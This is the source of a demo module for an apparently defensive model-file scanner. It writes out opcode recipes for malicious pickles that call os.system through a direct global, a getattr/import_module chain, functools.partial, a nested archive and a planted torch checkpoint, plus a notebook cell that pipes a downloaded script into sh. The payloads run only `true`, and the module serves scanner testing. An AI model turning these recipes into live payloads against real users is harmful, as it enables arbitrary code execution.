"""Examples for ``gifthorse demo``: how files attack, with payloads that do nothing.

What the hostile ones would run is ``true``.  They are assembled from text, opcode by
opcode, and nothing here ever loads them.
"""

from __future__ import annotations

import io
import json
import zipfile
import zlib
from dataclasses import dataclass
from typing import TYPE_CHECKING, Final

from scanner_core.facts import Environment
from scanner_core.findings import Verdict
from scanner_core.testing import assemble

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from pathlib import Path

    from scanner_core.findings import Report

ENVIRONMENT: Final = Environment((("onnx", "1.20.1"), ("torch", "2.13.0")))
"""So that the outcomes are the same wherever the demo runs."""
DATE: Final = (2020, 1, 1, 0, 0, 0)
CALL: Final = """
    GLOBAL 'posix system'
    BINUNICODE 'true'
    TUPLE1
    REDUCE
"""
STATE_DICT: Final = """
    EMPTY_DICT
    BINUNICODE 'weight'
    GLOBAL 'torch._utils _rebuild_tensor_v2'
    MARK
    MARK
    BINUNICODE 'storage'
    GLOBAL 'torch FloatStorage'
    BINUNICODE '0'
    BINUNICODE 'cpu'
    BININT1 4
    TUPLE
    BINPERSID
    BININT1 0
    BININT1 4
    TUPLE1
    BININT1 1
    TUPLE1
    NEWFALSE
    GLOBAL 'collections OrderedDict'
    EMPTY_TUPLE
    REDUCE
    TUPLE
    REDUCE
    SETITEM
    STOP
"""
CHAIN: Final = """
    GLOBAL 'builtins getattr'
    GLOBAL 'importlib import_module'
    BINUNICODE 'os'
    TUPLE1
    REDUCE
    BINUNICODE 'system'
    TUPLE2
    REDUCE
    BINUNICODE 'true'
    TUPLE1
    REDUCE
    STOP
"""
PARTIAL: Final = """
    GLOBAL 'functools partial'
    GLOBAL 'posix system'
    TUPLE1
    REDUCE
    BINUNICODE 'true'
    TUPLE1
    REDUCE
    STOP
"""
TRAIN: Final = """\
import torch

state = torch.load("planted.pt")
model = torch.load("planted.pt", weights_only=False)
"""
SERVE: Final = """\
import onnx
import torch

judge = onnx.load("judge.onnx")
state = torch.load("clean.pt")
"""
PREPARE: Final = """\
import pickle

with open("split.cache", "rb") as cache:
    # gifthorse: ignore[unrestricted-unpickling] -- split.py writes it
    split = pickle.load(cache)
"""
TOUR_NAME: Final = "tour.ipynb"
TOUR: Final = (
    """\
### A model from somebody else

What the cells below would load is told before any of them runs.
*The files do no harm: what the hostile ones would run is the command `true`.*""",
    "%load_ext gifthorse",
    """\
import pickle

# The guard stops this cell: loading the file would run a command.
with open("chain.pkl", "rb") as file:
    model = pickle.load(file)""",
    """\
import torch

model = torch.load("planted.pt", weights_only=False)""",
    """\
state = torch.load("clean.pt", weights_only=True)""",
    "%modelscan forest.joblib",
)
"""For JupyterLab; the first cell is Markdown."""

CELLS: Final = (
    "!curl -s https://example.org/setup.sh | sh",
    "import torch\nfrom transformers import AutoModel",
    'AutoModel.from_pretrained("org/name", trust_remote_code=True)',
    "torch.load(sys.argv[1], weights_only=False)\ntorch.load(x, weights_only=False)",
)
SCAN_NEXT: Final = """\
  gifthorse scan model.pt src/     any files and folders; --verbose says more
"""


@dataclass(frozen=True, slots=True)
class Example:
    """A file that the demo writes."""

    name: str
    about: str
    verdict: Verdict
    """What a scan of it must say."""


EXAMPLES: Final = (
    Example(
        "bundle.zip",
        "an archive in an archive, a call in a later stream",
        Verdict.UNSAFE,
    ),
    Example("chain.pkl", "looks up os.system with getattr, calls it", Verdict.UNSAFE),
    Example("clean.pt", "a state dict as torch.save writes it", Verdict.CLEAN),
    Example("evaluate.ipynb", "runs what it downloads", Verdict.UNSAFE),
    Example("forest.joblib", "compressed, with a call in a partial", Verdict.UNSAFE),
    Example("planted.pt", "clean.pt with a call of posix.system", Verdict.UNSAFE),
    Example("prepare.py", "a comment says why a load is ignored", Verdict.CLEAN),
    Example("serve.py", "loads with a version that has a weakness", Verdict.REVIEW),
    Example("train.py", "loads planted.pt in two ways", Verdict.UNSAFE),
)


def write(folder: Path) -> None:
    """Write the examples into a new folder.

    Raises ``OSError`` if that cannot be done, ``FileExistsError`` if it exists.
    """
    folder.mkdir(parents=True)
    proto = assemble("PROTO 2")
    state = assemble(STATE_DICT)
    harmless = proto + assemble("EMPTY_DICT\nSTOP")
    stacked = harmless + proto + assemble(CALL) + assemble("STOP")
    inner = _archive({"model/stacked.pkl": stacked})
    (folder / "bundle.zip").write_bytes(_archive({"inner.zip": inner}))
    (folder / "chain.pkl").write_bytes(proto + assemble(CHAIN))
    (folder / "clean.pt").write_bytes(_checkpoint("clean", proto + state))
    forest = zlib.compress(proto + assemble(PARTIAL))
    (folder / "forest.joblib").write_bytes(forest)
    planted = proto + assemble(CALL) + assemble("POP") + state
    (folder / "planted.pt").write_bytes(_checkpoint("planted", planted))
    programs = {"prepare.py": PREPARE, "serve.py": SERVE, "train.py": TRAIN}
    programs["evaluate.ipynb"] = _notebook(CELLS)
    for name, text in programs.items():
        (folder / name).write_text(text, encoding="utf-8", newline="\n")


def write_tour(folder: Path) -> None:
    """Write a notebook to open in JupyterLab; it loads what is there already."""
    title, *cells = TOUR
    text = _notebook(tuple(cells), title)
    (folder / TOUR_NAME).write_text(text, encoding="utf-8", newline="\n")


def try_next(folder: str, *, is_kept: bool) -> str:
    """Return what to type after the demo, which left its files in a folder or none."""
    if is_kept:
        first = (
            f"  jupyter lab {folder}/{TOUR_NAME}     shows the same over a notebook\n"
            f"  gifthorse explain {folder}/chain.pkl     tells what it calls, and how"
        )
    else:
        first = (
            "  gifthorse demo --keep DIR        leaves these files for you to look at"
        )
    return f"Try next:\n{first}\n{SCAN_NEXT}"


def introduction(folder: str, *, is_kept: bool, verbose: bool = False) -> str:
    """Return what to say before the scan."""
    longest = max(len(example.name) for example in EXAMPLES)
    files = [f"  {each.name:{longest}}  {each.about}" for each in EXAMPLES]
    removed = "" if is_kept else " until the demo ends"
    lines = [
        "A project with hostile files; what they would run is `true`; none is loaded.",
        f"They are in {folder}{removed}.",
        *(["", *files] if verbose else []),
        "",
        "$ gifthorse scan .          (as if torch 2.13 and onnx 1.20 were installed)",
    ]
    return "\n".join(lines) + "\n"


def surprises(report: Report) -> Iterator[str]:
    """Yield a sentence for each example that was not judged as it must be."""
    verdicts = {artifact.path: artifact.verdict for artifact in report.artifacts}
    for example in EXAMPLES:
        if (found := verdicts.get(example.name)) is not example.verdict:
            said = found.value if found else "not scanned"
            yield f"{example.name} must be {example.verdict.value}, but is {said}"


def _notebook(sources: tuple[str, ...], title: str = "") -> str:
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    cells = [_cell(text, f"cell-{number}") for number, text in enumerate(sources, 1)]
    if title:
        cells.insert(0, _title(title))
    document = {"cells": cells, "metadata": {"kernelspec": kernel}}
    return json.dumps(document | {"nbformat": 4, "nbformat_minor": 5}, indent=1) + "\n"


def _title(text: str) -> dict[str, object]:
    return {
        "cell_type": "markdown",
        "id": "title",
        "metadata": {},
        "source": text.splitlines(keepends=True),
    }


def _cell(text: str, name: str) -> dict[str, object]:
    return {
        "cell_type": "code",
        "execution_count": None,
        "id": name,
        "metadata": {},
        "outputs": [],
        "source": text.splitlines(keepends=True),
    }


def _checkpoint(name: str, stream: bytes) -> bytes:
    members = {
        "data.pkl": stream,
        "byteorder": b"little",
        "data/0": bytes(16),
        "version": b"3\n",
    }
    return _archive({f"{name}/{member}": data for member, data in members.items()})


def _archive(members: Mapping[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, DATE), data)
    return file.getvalue()
